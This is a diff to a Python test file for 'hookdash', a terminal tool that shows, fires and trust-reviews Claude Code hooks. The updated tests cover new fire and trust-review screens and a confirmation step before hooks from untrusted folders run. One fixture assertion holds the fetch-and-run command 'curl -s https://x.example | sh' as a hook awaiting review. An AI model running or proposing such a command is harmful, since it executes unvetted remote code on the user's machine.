@@ -13,7 +13,8 @@ from textual.widgets import Input
 from hookdash.core import with_claude
 from hookdash.tui.app import HookdashApp
 from hookdash.tui.screens.confirm import ConfirmScreen
-from hookdash.tui.screens.output import OutputScreen
+from hookdash.tui.screens.fire import FireScreen
+from hookdash.tui.screens.trust import TrustScreen
 from hookdash.tui.widgets.banners import Banner
 from hookdash.tui.widgets.hook_tree import HookTree
 from tests.conftest import Sandbox, command_hook, settings_with
@@ -206,12 +207,19 @@ async def test_f_fires_a_claude_hook_and_shows_what_claude_would_do(sandbox: San
         await pilot.pause()
         select(app.screen.query_one(HookTree), "echo claude-guard")  # the user's: no question
         await pilot.press("f")
-        await until(lambda: isinstance(app.screen, OutputScreen))
-        text = app.screen.text  # type: ignore[attr-defined]
-    assert "what Claude Code would do" in text and "exit 0" in text
+        await until(lambda: isinstance(app.screen, FireScreen))
+        fire = app.screen
+        assert isinstance(fire, FireScreen)
+        assert json.loads(fire.payload_text)["tool_name"] == "Bash"  # Claude's payload
+        status = text_of(fire.query_one("#payload-status"), 300)
+        assert "Claude Code would run this hook for it" in status
+        await pilot.press("ctrl+r")
+        await until(lambda: fire.result is not None)
+        text = text_of(fire.query_one("#result-body"), 300)
+    assert "What Claude Code would do" in text and "exit 0" in text
     assert "claude-guard" in text
     log = (sandbox.state / "runs.jsonl").read_text()
-    assert '"host": "claude"' in log or "echo claude-guard" in log
+    assert '"host":"claude"' in log and "echo claude-guard" in log
 
 
 async def test_f_on_a_project_hook_of_an_untrusted_folder_asks_first(sandbox: Sandbox) -> None:
@@ -221,10 +229,12 @@ async def test_f_on_a_project_hook_of_an_untrusted_folder_asks_first(sandbox: Sa
         await pilot.pause()
         select(app.screen.query_one(HookTree), "echo done")
         await pilot.press("f")
+        await until(lambda: isinstance(app.screen, FireScreen))
+        await pilot.press("ctrl+r")
         await until(lambda: isinstance(app.screen, ConfirmScreen))
         await pilot.press("n")
-        await until(lambda: not isinstance(app.screen, ConfirmScreen))
-        assert not isinstance(app.screen, OutputScreen)
+        await until(lambda: isinstance(app.screen, FireScreen))
+        assert not app.screen.running  # type: ignore[attr-defined]
     assert not (sandbox.state / "runs.jsonl").exists()
 
 
@@ -236,6 +246,9 @@ async def test_t_reviews_claude_project_hooks(sandbox: Sandbox) -> None:
         banner = next(b for b in app.screen.query(Banner) if b.has_class("trust"))
         assert "2 Claude Code project hooks not reviewed yet" in text_of(banner)
         await pilot.press("T")
+        await until(lambda: isinstance(app.screen, TrustScreen))
+        assert len(app.screen.others) == 2  # type: ignore[attr-defined]
+        await pilot.press("a", "y")  # every one checked, then the question
         await until(lambda: isinstance(app.screen, ConfirmScreen))
         body = text_of(app.screen.query_one("#confirm-body"), 200)
         assert "curl -s https://x.example | sh" in body and "echo done" in body
@@ -259,8 +272,10 @@ async def test_t_reviews_a_claude_settings_command_as_a_hook(sandbox: Sandbox) -
         banner = next(b for b in app.screen.query(Banner) if b.has_class("trust"))
         assert "1 Claude Code project hook and 1 settings command not" in text_of(banner)
         await pilot.press("T")
+        await until(lambda: isinstance(app.screen, TrustScreen))
+        await pilot.press("A")  # every item shown
         await until(lambda: isinstance(app.screen, ConfirmScreen))
-        assert app.screen._title == "Review 1 Claude Code project hook and 1 settings command"
+        assert app.screen._title == "Record 2 Claude Code items as reviewed?"
         body = text_of(app.screen.query_one("#confirm-body"), 200)
         assert "apiKeyHelper (settings command, not a hook)" in body and "echo k" in body
         await pilot.press("y")
